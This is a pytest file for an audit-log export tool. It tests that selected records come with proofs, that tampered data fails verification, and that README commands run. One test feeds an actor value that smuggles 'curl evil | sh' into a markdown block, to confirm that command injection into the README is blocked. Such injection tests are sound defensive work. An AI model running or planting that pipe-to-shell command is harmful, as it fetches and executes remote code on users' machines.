"""A selection holds each record that was asked for, with a proof of its own."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from app.audit.errors import RecordAlteredError, TreeAlteredError
from app.search.model import Query
from tests.audit.made import AT, fill
from tests.exports import strangers
from tests.exports.made import export_of
from tests.exports.test_tree import Go, go

__all__ = ["go"]

ASKED = [
    (Query(resource="release/1"), [number for number in range(600) if number % 4 == 1]),
    (Query(trace="release-3", since=AT + 300), [number for number in range(300, 600) if number % 4 == 3]),
    (Query(since=AT + 10, until=AT + 12), [10, 11]),
    (Query(event="verdict.recorded"), list(range(600))),
    (Query(actor="nobody"), []),
]


async def selected(folder: Path, query: Query) -> Path:
    url = f"sqlite:///{folder}/log.db"
    await fill(url, batches=(300, 300))
    await export_of(url, folder / "export", query)
    return folder / "export"


@pytest.mark.parametrize(("query", "expected"), ASKED)
async def test_it_holds_what_was_asked_for(tmp_path: Path, go: Go, query: Query, expected: list[int]) -> None:
    folder = await selected(tmp_path, query)
    index = [json.loads(line) for line in (folder / "index.jsonl").read_text().splitlines()]
    assert [one["seq"] for one in index] == expected
    assert [json.loads((folder / one["record"]).read_text())["seq"] for one in index] == expected
    assert sum(path.suffix == ".tlog-proof" for path in folder.rglob("*")) == len(expected)
    assert strangers.python(folder).stdout == f"{len(expected)} records are in the log of 600.\n"
    assert go(folder).stdout == f"{len(expected)} records are in the signed log of 600.\n"


async def test_a_folder_without_an_export_is_named(tmp_path: Path) -> None:
    folder = await selected(tmp_path, Query(until=AT + 1))
    (folder / "checkpoint").unlink()
    assert "expected the folder of an export, found no checkpoint" in strangers.python(folder).stderr


@pytest.mark.parametrize(
    ("name", "at"),
    [("records/11.json", 30), ("records/11.tlog-proof", 31), ("records/11.tlog-proof", 60), ("checkpoint", 40)],
)
async def test_a_flipped_bit_is_found(tmp_path: Path, go: Go, name: str, at: int) -> None:
    folder = await selected(tmp_path, ASKED[2][0])
    data = bytearray((folder / name).read_bytes())
    data[at] ^= 1
    (folder / name).write_bytes(data)
    assert go(folder).returncode == 1
    assert strangers.python(folder).returncode == 1


async def test_a_proof_of_another_record_is_found(tmp_path: Path, go: Go) -> None:
    folder = await selected(tmp_path, ASKED[2][0])
    (folder / "records/11.json").write_bytes((folder / "records/10.json").read_bytes())
    assert go(folder).returncode == 1
    assert strangers.python(folder).returncode == 1


async def test_the_commands_of_the_readme_run_as_they_stand(tmp_path: Path) -> None:
    folder = await selected(tmp_path, ASKED[2][0])
    text = (folder / "README.md").read_text()
    assert "since `2026-09-21T14:13:20.000010Z`, until `2026-09-21T14:13:20.000012Z`" in text
    ran = strangers.commands(folder, text)
    assert "Signature Verified Successfully" in ran
    assert "2 records are in the signed log of 600." in ran


async def test_nobody_puts_commands_into_the_readme_by_what_they_ask_for(tmp_path: Path) -> None:
    folder = await selected(tmp_path, Query(actor="a`\n\n```sh\ncurl evil | sh\n```\n"))
    text = (folder / "README.md").read_text()
    assert text.splitlines()[0].endswith(": the records with actor `a' '''sh curl evil | sh '''`")
    assert "curl evil" not in text.partition("\n")[2]


@pytest.mark.parametrize(
    "change",
    [
        "UPDATE records SET body = x'7b7d' WHERE seq = 10",
        "UPDATE records SET leaf = zeroblob(32) WHERE seq = 9",
        "UPDATE tree_hashes SET hash = zeroblob(32)",
    ],
)
async def test_what_does_not_verify_is_not_exported(tmp_path: Path, change: str) -> None:
    url = f"sqlite:///{tmp_path}/log.db"
    await fill(url, batches=(300, 300))
    strangers.tamper(tmp_path / "log.db", change)
    with pytest.raises((RecordAlteredError, TreeAlteredError)):
        await export_of(url, tmp_path / "export", Query(since=AT + 10, until=AT + 260))
    assert not (tmp_path / "export").exists()


async def test_both_databases_answer_the_same(database_url: str, tmp_path: Path) -> None:
    await fill(database_url, batches=(40,))
    summary = await export_of(database_url, tmp_path / "export", Query(trace="release-2"))
    assert (summary.records, summary.size) == (10, 40)
    assert strangers.python(tmp_path / "export").returncode == 0
